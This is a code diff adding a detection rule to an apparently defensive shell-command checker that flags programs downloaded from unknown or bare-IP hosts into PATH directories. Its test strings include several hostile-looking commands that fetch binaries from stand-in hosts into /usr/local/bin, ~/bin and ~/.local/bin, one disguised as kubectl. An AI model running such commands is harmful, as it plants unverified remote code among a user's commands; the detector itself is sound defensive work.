@@ -4,7 +4,9 @@ use super::{WRITES, written};
 use crate::domain::{Action, Severity, Target, Verdict};
 use crate::rules::builtin::packages::is_usual;
 use crate::rules::builtin::{lists, predicate};
-use crate::rules::matcher::{At, Found, Instead, RULE, Rule, Scene, Trigger, contains_word, host_of};
+use crate::rules::matcher::{
+    At, Found, Instead, RULE, Rule, Scene, Trigger, at, contains_word, host_of, is_known, target_of,
+};
 use crate::shell::Arg;
 
 pub(in crate::rules::builtin) const RULES: &[Rule] = &[
@@ -133,6 +135,28 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         ..RULE
     },
     Rule {
+        id: "persistence.stranger-in-path",
+        verdict: Verdict::Modify,
+        reason: "puts a program from an unknown host, fetched without any proof of whose it is, among the commands of the person",
+        instead: Some(Instead::Advice("fetch it into the project, and let the person look at it")),
+        when: &[predicate(
+            "program_fetched_into_the_path",
+            Trigger::programs(lists::DOWNLOADERS),
+            fetched_into_path,
+        )],
+        fires: &[
+            "curl -so /usr/local/bin/kubectl http://203.0.113.9/k && chmod +x /usr/local/bin/kubectl",
+            "wget -qO ~/.local/bin/x http://x.example/x",
+            "curl -s http://x.example/x > ~/bin/x",
+        ],
+        silent: &[
+            "curl -Lo ~/.local/bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
+            "curl -o bin/x http://localhost:8080/x",
+            "wget -qO /tmp/x http://x.example/x",
+        ],
+        ..RULE
+    },
+    Rule {
         id: "persistence.npm-hooks",
         verdict: Verdict::Modify,
         reason: "changes which shell, registry or scripts the package manager uses everywhere",
@@ -258,6 +282,40 @@ fn npm_setting<'a>(scene: &Scene<'a>) -> Found<'a> {
             url.contains("://") && is_usual(&host_of(url), scene.view.policy)
         });
         sets && !usual && words.iter().any(keys)
+    });
+    Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+/// Where the commands of the person lie.
+const PATH_DIRS: &[At] = &[
+    At::Home(".local/bin"),
+    At::Home("bin"),
+    At::Home(".cargo/bin"),
+    At::Home("go/bin"),
+    At::Abs("/usr/local/bin"),
+    At::Abs("/usr/local/sbin"),
+    At::Abs("/usr/bin"),
+    At::Abs("/opt/bin"),
+    At::Abs("/opt/homebrew/bin"),
+];
+
+/// A program is fetched into such a directory from an unknown host, by its number or without a certificate.
+fn fetched_into_path<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let home = scene.view.facts.places.home.as_deref();
+    let found = scene.first(lists::DOWNLOADERS, |inv| {
+        let stranger = |arg: &Arg| {
+            let text = arg.text();
+            let host = host_of(&text);
+            let number =
+                host.split('.').count() == 4 && host.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+            let bare = text.starts_with("http://") || number && !text.starts_with(['/', '-', '.']);
+            bare && host.contains('.') && !is_known(&host, scene.view.policy)
+        };
+        let placed = || {
+            inv.writes.iter().any(|(target, _)| at(target, PATH_DIRS, home))
+                || inv.args.iter().any(|arg| at(&target_of(arg, inv.cwd.as_deref()), PATH_DIRS, home))
+        };
+        inv.args.iter().any(stranger) && placed()
     });
     Found::from(found.map(|inv| inv.text.as_str()))
 }
